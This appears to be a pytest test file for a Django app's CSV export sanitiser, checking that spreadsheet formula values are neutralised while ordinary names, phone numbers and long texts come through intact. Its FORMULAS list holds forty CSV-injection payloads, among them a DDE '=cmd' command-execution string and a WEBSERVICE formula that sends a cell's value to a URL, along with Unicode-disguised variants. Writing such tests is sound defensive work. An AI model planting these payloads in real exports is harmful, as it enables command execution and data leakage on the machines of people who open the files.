"""Forty values that somebody might type to make a spreadsheet run something, and the values that must stay whole."""

import csv
import io
import random

import pytest
from django.db import connection

from participants.exports import cells

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    '=HYPERLINK("http://example.com","klik")',
    '=WEBSERVICE("http://example.com/"&A1)',
    "=cmd|'/C calc'!A0",
    "|calc",
    "%0A=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " =1+1",
    "   +1+1",
    "\u00a0=1+1",
    "\u2003=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
    "\u200e=1+1",
    "\u2060=1+1",
    "\u00ad=1+1",
    "\u202e=1+1",
    "\ufeff=1+1",
    "\uff1d1+1",
    "\uff0b1+1",
    "\uff0d1+1",
    "\uff20SUM(A1)",
    " \uff1d1+1",
    "\x00=1+1",
    "\x0b=1+1",
    "\x1f@SUM(A1)",
    "Siti,=1+1",
    "Siti;=1+1",
    "Siti, =1+1",
    "Siti;\u00a0@SUM(A1)",
    'Siti";=1+1',
    'Siti,"=1+1"',
    "Siti\n=1+1",
    "Siti\t=1+1",
]
HARMLESS = ["Siti Nur'aini", "Anne-Marie", "a=b", "M. Yusuf, S.Kom.", "0812-3456-7890", "Ñandú 𝒮", "", "'", "5 % lebih"]


def as_read(text, *, written_with, read_with):
    """The cells of one line as a spreadsheet splits it."""
    line = io.StringIO()
    csv.writer(line, delimiter=written_with).writerow(["Bali", cells.csv_cell(text), "1"])
    return [cell for row in csv.reader(io.StringIO(line.getvalue()), delimiter=read_with) for cell in row]


def test_the_corpus_has_forty_values():
    assert len(set(FORMULAS)) == 40


@pytest.mark.parametrize("read_with", [",", ";", "\t"])
@pytest.mark.parametrize("written_with", [",", ";"])
@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
def test_no_cell_is_a_formula_even_when_split_at_the_other_separator(text, written_with, read_with):
    for cell in as_read(text, written_with=written_with, read_with=read_with):
        assert not cell.strip(' \t\r\n\x00"\u00a0\u2003\u3000\u200b').startswith(
            ("=", "+", "-", "@", "|", "%", "\uff1d")
        )


@pytest.mark.parametrize("text", HARMLESS)
def test_leaves_what_is_harmless_as_it_is(text):
    assert cells.csv_cell(text) == text


@pytest.mark.parametrize(
    ("e164", "written"),
    [
        ("+6281234567890", "0812-3456-7890"),
        ("+628123456789", "0812-3456-789"),
        ("+62812345678901", "0812-3456-78901"),
        ("+6591234567", "'+6591234567"),
        ("", ""),
        ("=1+1", "'=1+1"),
        ("+", "'+"),
    ],
)
def test_a_phone_number_stays_a_text(e164, written):
    assert cells.phone_for_csv(e164) == written


def test_control_characters_go_and_what_is_cut_says_so():
    assert cells.plain("a\x00\x0b\x1f\x7f\u2028b\ud800\nc") == "ab\nc"
    long = cells.plain("x" * 40_000)
    assert (len(long), long.endswith("[terpotong]")) == (cells.LONGEST, True)
    assert cells.plain("x" * cells.LONGEST) == "x" * cells.LONGEST


TYPED = [
    *FORMULAS,
    *HARMLESS,
    "a\x0b\x1fb\u2028c",
    "x" * 40_000,
    "=" + "x" * 40_000,
    "Ｓiti，＝1",
    "①=1",
    "ﬁ-=1",
    'a;\u3000\u200b"＠b,+c',
    "1.5",
    "12 Mei",
    "'=1",
]


@pytest.mark.django_db
def test_sql_writes_every_text_as_python_does():
    chance = random.Random(1)
    letters = "ab1'\" ,;\t\n\r=+-@|%＝＋\u00a0\u200b\u2060\u202eéñ𝒮.\x0b\x85"
    texts = [text.replace("\x00", "") for text in TYPED]
    texts += ["".join(chance.choices(letters, k=chance.randint(1, 9))) for _number in range(4_000)]

    with connection.cursor() as cursor:
        columns = f"t, {cells.sql_plain('t')}, {cells.sql_csv_cell('t')}"
        cursor.execute(cursor.mogrify("CREATE TEMP TABLE typed ON COMMIT DROP AS SELECT unnest(%s) AS t", [texts]))
        cursor.execute(f"SELECT {columns} FROM typed")
        differing = [row for row in cursor if row[1:] != (cells.plain(row[0]), cells.csv_cell(row[0]))]

    assert differing == []


@pytest.mark.django_db
def test_sql_writes_every_phone_as_python_does():
    phones = ["", "+6281234567890", "+628123456789", "+62812345678901", "+6591234567", "+6221123456", "+14155550123"]

    with connection.cursor() as cursor:
        typed = cursor.mogrify("unnest(%s)", [phones]).decode()
        cursor.execute(f"SELECT t, {cells.sql_phone_for_csv('t')} FROM {typed} AS t")
        assert dict(cursor.fetchall()) == {phone: cells.phone_for_csv(phone) for phone in phones}
